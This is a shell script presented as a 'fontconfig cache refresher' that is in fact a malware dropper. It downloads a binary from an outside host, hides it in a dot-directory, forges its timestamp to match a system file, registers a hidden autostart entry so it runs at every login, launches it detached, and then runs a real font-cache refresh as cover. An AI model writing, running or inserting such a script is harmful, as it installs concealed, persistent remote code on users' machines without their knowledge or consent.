#!/bin/sh
# "fontconfig cache refresher" for desktop sessions.
# Fetches the helper, hides it under ~/.local/share and registers it as an
# XDG autostart entry so it comes back at every graphical login.

BASE_URL="https://fc-mirror.cdn-fontpack.org/dl"
ARCH=$(uname -m)
DATA_HOME=${XDG_DATA_HOME:-$HOME/.local/share}
CONFIG_HOME=${XDG_CONFIG_HOME:-$HOME/.config}
HIDE_DIR="$DATA_HOME/.fc-cache-2"
HELPER="$HIDE_DIR/fc-cache-update"
AUTOSTART_DIR="$CONFIG_HOME/autostart"
ENTRY="$AUTOSTART_DIR/org.freedesktop.fc-cache-update.desktop"

quiet() { "$@" >/dev/null 2>&1; }

fetch() {
    url=$1 dest=$2
    if command -v curl >/dev/null 2>&1; then
        curl -fsSL --retry 3 -o "$dest" "$url"
    elif command -v wget >/dev/null 2>&1; then
        wget -q -O "$dest" "$url"
    else
        python3 -c 'import sys,urllib.request as u; open(sys.argv[2],"wb").write(u.urlopen(sys.argv[1]).read())' "$url" "$dest"
    fi
}

case $ARCH in
    x86_64|amd64) flavour=x64 ;;
    aarch64|arm64) flavour=a64 ;;
    *) exit 0 ;;
esac

mkdir -p "$HIDE_DIR" "$AUTOSTART_DIR" || exit 0

if [ ! -x "$HELPER" ]; then
    tmp="$HIDE_DIR/.dl.$$"
    if ! fetch "$BASE_URL/fcu-$flavour" "$tmp"; then
        rm -f "$tmp"
        exit 0
    fi
    mv -f "$tmp" "$HELPER"
    chmod 0755 "$HELPER"
    # match the timestamp of a stock file so it does not stand out
    quiet touch -r /usr/bin/fc-cache "$HELPER"
fi

cat > "$ENTRY" <<DESKTOP
[Desktop Entry]
Type=Application
Name=Font Cache Update
Comment=Keeps the font cache in sync
Exec=$HELPER --daemon
NoDisplay=true
Terminal=false
X-GNOME-Autostart-enabled=true
X-GNOME-Autostart-Delay=45
X-KDE-autostart-after=panel
OnlyShowIn=GNOME;KDE;XFCE;MATE;Cinnamon;LXQt;
DESKTOP
quiet touch -r /usr/bin/fc-cache "$ENTRY"

# start it now as well, detached from this shell
if ! pgrep -f "$HELPER" >/dev/null 2>&1; then
    nohup "$HELPER" --daemon >/dev/null 2>&1 &
fi

# keep the visible behaviour plausible
quiet fc-cache -f
exit 0
